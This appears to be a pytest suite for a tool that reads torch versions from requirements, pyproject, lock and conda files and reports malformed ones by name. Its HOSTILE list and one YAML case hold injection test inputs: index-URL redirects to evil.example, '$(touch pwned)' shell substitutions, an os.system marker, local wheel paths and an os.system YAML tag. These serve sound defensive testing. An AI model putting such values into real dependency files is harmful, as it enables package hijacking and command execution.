"""Every kind of requirement and lock file states versions; malformed and hostile ones are refused by name."""

import json

import pytest
from packaging.requirements import Requirement
from repository import FILES, TORCH, moves, poetry

from parity.gate.upgraded import UpgradeError


@pytest.mark.parametrize("path", FILES)
def test_every_kind_of_file_says_what_moves(repository, path):
    upgrade = repository.upgraded({path: FILES[path]("2.13.0")}, {path: FILES[path]("2.14.1")})
    assert moves(upgrade) == TORCH
    assert upgrade.moves[0].framework == "torch"
    assert upgrade.moves[0].places[0].startswith(path)
    assert (upgrade.current, upgrade.candidate) == (["torch==2.13.0"], ["torch==2.14.1"])
    assert upgrade.lines[0].startswith(f"this change: torch==2.13.0 to torch==2.14.1 ({path}")


@pytest.mark.parametrize("path", FILES)
def test_a_file_that_changes_elsewhere_moves_nothing(repository, path):
    text = FILES[path]("2.13.0")
    later = text.replace('"_meta"', ' "_meta"') if path.endswith("Pipfile.lock") else f"{text}\n# later\n"
    upgrade = repository.upgraded({path: text}, {path: later})
    assert upgrade.moves == ()
    assert upgrade.candidate == upgrade.current == []
    assert upgrade.lines == ["this change upgrades no framework: nothing to judge"]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("requirements.txt", "torch @ git+https://github.com/stranger/torch@{}"),
        ("requirements.txt", "git+https://github.com/stranger/torch@{}#egg=torch"),
        ("requirements.txt", "-e git+https://github.com/stranger/torch@{}#egg=torch"),
        ("requirements.txt", "torch==${TORCH_{}}"),
        ("pyproject.toml", '[tool.poetry.dependencies]\ntorch = {git = "https://x.org/torch", rev = "{}"}'),
        ("pyproject.toml", '[tool.poetry.dependencies]\ntorch = "2.13.{} || 2.14.0"'),
        ("uv.lock", '[[package]]\nname = "torch"\nversion = "2.14.1"\nsource = { git = "https://x.org/torch#{}" }'),
        ("poetry.lock", poetry("2.14.1", '[package.source]\ntype = "git"\nresolved_reference = "{}"')),
        ("Pipfile.lock", '{"default": {"torch": {"git": "https://x.org/torch", "ref": "{}"}}}'),
        ("environment.yml", "dependencies: ['pytorch=2.13.{}|2.14.0']"),
    ],
)  # fmt: skip
def test_a_source_without_a_version_is_an_error_where_it_moves(repository, path, text):
    before, after = text.replace("{}", "1"), text.replace("{}", "2")
    assert repository.upgraded({path: before}, {path: before + "\n"}).moves == ()
    with pytest.raises(UpgradeError, match=r"asks for torch as .* does not install: name the versions .*--candidate"):
        repository.upgraded({path: before}, {path: after})


# Strangers --------------------------------------------------------------------------------------------------------

HOSTILE = [
    "torch==2.14.1 --index-url https://evil.example/simple",
    "torch==2.14.1 --extra-index-url=https://evil.example",
    "torch==2.14.1 -i https://evil.example",
    "torch[$(touch pwned)]==2.14.1",
    "torch===2.14.1;touch",
    "torch==2.14.1$(touch pwned)",
    "torch===$(touch${IFS}pwned)",
    "torch===/tmp/evil.whl",
    "torch>=2.14; os.system('touch pwned')",
    "torch\u200b==2.14.1",
    "torch @ file:///tmp/evil.whl",
    "--index-url https://evil.example\ntorch==2.14.1",
    "--torch==2.14.1",
    "torch==2.14.1\x1b[31m",
]


@pytest.mark.parametrize("line", HOSTILE)
@pytest.mark.parametrize("path", ["requirements.txt", "pyproject.toml", "uv.lock", "Pipfile.lock", "environment.yml"])
def test_nothing_is_smuggled_into_pip(repository, path, line):
    name, _, version = line.partition("==")
    text = {
        "requirements.txt": line,
        "pyproject.toml": f"[project]\ndependencies = [{json.dumps(line)}]",
        "uv.lock": f"[[package]]\nname = {json.dumps(name)}\nversion = {json.dumps(version)}",
        "Pipfile.lock": json.dumps({"default": {name: {"version": f"=={version}"}}}),
        "environment.yml": json.dumps({"dependencies": [line, {"pip": [line]}]}),
    }[path]
    given, said = [], path
    try:
        given = repository.upgraded({path: "" if path != "Pipfile.lock" else "{}"}, {path: text}).candidate
    except UpgradeError as error:
        said = str(error)
    assert path in said
    assert said.isprintable()
    for requirement in given:
        assert str(Requirement(requirement)) == requirement
        assert Requirement(requirement).url is None
        assert requirement.startswith(("torch==2.14.1", "torch>=2.14"))
        assert not set(requirement) & set(" /:;$()[]\n")
    assert not (repository.folder / "pwned").exists()


# Files that cannot be read ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "content", "said"),
    [
        ("requirements.txt", "numpy\ntorch=2.14.1\n", "requirements.txt:2: 'torch=2.14.1' is not a requirement"),
        ("requirements.txt", "<<<<<<< HEAD\ntorch==2.14.1\n=======\n", "requirements.txt:1: '<<<<<<< HEAD'"),
        ("requirements.txt", "torch>=2.1+cpu", "requirements.txt:1: 'torch>=2.1+cpu' is not a requirement"),
        ("requirements.txt", b"torch==2.14.1 # \xff", "requirements.txt (at HEAD): is not UTF-8 at byte 16"),
        ("requirements.txt", "keras @ https://x.org/torch-2.14.1-py3-none-any.whl", "which is a file of torch"),
        ("pyproject.toml", '[project]\ndependencies = ["torch"\n', "pyproject.toml: is not valid TOML"),
        ("pyproject.toml", '[project]\ndependencies = "torch"\n', "project.dependencies: 'torch' is not a list"),
        ("pyproject.toml", "[project]\ndependencies = [1] # torch\n", "project.dependencies: 1 is not text"),
        ("pyproject.toml", '[tool.poetry.dependencies]\ntorch = "^x"\n', "'x' is not a version such as 2.14.1"),
        ("pyproject.toml", "tool = 1 # torch", "pyproject.toml, tool: 1 is not a table"),
        ("uv.lock", '[[package]]\nname = "torch"\nversion = 2', "uv.lock, package torch: 2 is not a version"),
        ("uv.lock", '[[package]]\nname = "torch"\nversion = "2.14.1', "uv.lock: is not valid TOML"),
        ("uv.lock", f"torch = {'[' * 5000}", "uv.lock: is"),
        ("Pipfile.lock", '{"default": {"torch": ', "Pipfile.lock: is not valid JSON"),
        ("Pipfile.lock", '["torch"]', "Pipfile.lock: ['torch'] is not a table"),
        ("environment.yml", "dependencies: [pytorch", "environment.yml: is not valid YAML"),
        ("environment.yml", "dependencies: pytorch", "environment.yml, dependencies: 'pytorch' is not a list"),
        ("environment.yml", "a: &a {torch: 1}\nb: {<<: *a}", "environment.yml: is not valid YAML"),
        ("environment.yml", "!!python/object/apply:os.system ['torch']", "environment.yml: is not valid YAML"),
        ("pixi.lock", "environments: [torch]", "pixi.lock: ['torch'] is not a table"),
    ],
)  # fmt: skip
def test_a_malformed_file_is_named(repository, path, content, said):
    with pytest.raises(UpgradeError) as error:
        repository.upgraded({}, {path: content})
    assert said in str(error.value)
    assert "HEAD" in str(error.value)


def test_a_file_that_names_no_framework_may_be_anything(repository):
    upgrade = repository.upgraded({}, {"requirements.txt": "you need: a computer", "pyproject.toml": "[[["})
    assert upgrade.moves == ()
